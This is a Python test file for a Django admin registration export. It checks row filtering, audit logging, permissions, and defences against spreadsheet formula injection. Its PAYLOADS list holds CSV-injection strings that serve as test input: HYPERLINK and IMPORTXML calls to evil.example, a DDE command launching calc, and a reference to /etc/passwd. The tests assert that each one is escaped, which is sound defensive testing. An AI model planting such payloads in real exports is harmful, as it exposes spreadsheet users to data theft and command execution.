"""Exports: all filtered rows, nothing that a spreadsheet would run, a line that says who took what."""

import csv
import io

import pytest
from openpyxl import load_workbook

from apps.core.models import History
from apps.people.models import Person
from apps.registration.models import Registration
from tests.admin.conftest import enrol, furnish

URL = "/admin/registration/registration/export/"
LIST = "/admin/registration/registration/"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "＝", "＋", "－", "＠", " =", "\u3000=", "\ufeff=")
PAYLOADS = [
    *(f"{start}1+1" for start in STARTS),
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "+1-1|cmd",
    "-2+3",
    "='file:///etc/passwd'#$x.A1",
    '=IMPORTXML("http://evil.example","//a")',
    "\x00=1",
    "\x01=1",
]


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def rows_of_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def test_a_csv_holds_every_row_of_the_list(fair, staff_client):
    furnish(fair, 3)

    response = staff_client.post(URL, {"format": "csv"})

    rows = rows_of_csv(response)
    assert rows[0][:5] == ["code", "state", "edition", "ticket type", "days"]
    assert len(rows) == 7
    assert rows[-1][1:5] == ["badge_issued", "2025", "visitor", "2025-07-28"]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="registration-20')
    assert "no-store" in response["Cache-Control"]


def test_filters_narrow_the_export_and_their_values_stay_out_of_history(fair, staff_client, staff):
    furnish(fair, 2)

    rows = rows_of_csv(staff_client.post(f"{URL}?q=person-1@example.org", {"format": "csv"}))

    assert [row[8] for row in rows[1:]] == ["person-1@example.org"]
    line = History.objects.get(verb="export.taken")
    assert (line.subject_type, line.subject_id, line.actor_id) == ("people.user", staff.pk, str(staff.pk))
    assert line.reason == "registration.registration csv, by: q"


def test_chosen_rows_are_exported_by_an_action(fair, staff_client):
    furnish(fair, 3)
    chosen = Registration.objects.order_by("pk").first()

    response = staff_client.post(LIST, {"action": "export_csv", "_selected_action": chosen.pk})

    assert [row[0] for row in rows_of_csv(response)] == ["code", chosen.code]


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(payload) for payload in PAYLOADS])
def test_no_cell_is_a_formula(fair, staff_client, payload):
    registration = enrol(1)
    Person.objects.filter(pk=registration.person_id).update(name=payload.replace("\x00", ""))

    plain = rows_of_csv(staff_client.post(URL, {"format": "csv"}))[1][5]
    sheet = load_workbook(io.BytesIO(body(staff_client.post(URL, {"format": "xlsx"})))).active
    cell = sheet.cell(2, 6)

    kept = payload.replace("\x00", "").replace("\x01", "")
    assert plain.startswith("'")
    assert plain[1:].replace("\r\n", "\n").strip("\r\n") == kept.strip("\r\n")
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'")


def test_without_permission_nothing_leaves(fair, limited):
    furnish(fair, 1)
    client = limited("registration.view_tickettype")

    assert client.post(URL, {"format": "csv"}).status_code == 403
    assert not History.objects.filter(verb="export.taken").exists()


@pytest.mark.parametrize("data", [{}, {"format": "pdf"}])
def test_other_formats_are_refused(fair, staff_client, data):
    assert staff_client.post(URL, data).status_code == 405
    assert staff_client.get(f"{URL}?format=csv").status_code == 405


def test_hostile_filters_are_no_error(fair, staff_client):
    assert staff_client.post(f"{URL}?ticket_type__id__exact=x", {"format": "csv"}).status_code == 404


def test_an_export_asks_as_much_for_any_number_of_rows(fair, staff_client, django_assert_num_queries):
    furnish(fair, 3)
    staff_client.get(LIST)

    with django_assert_num_queries(8):
        body(staff_client.post(URL, {"format": "csv"}))
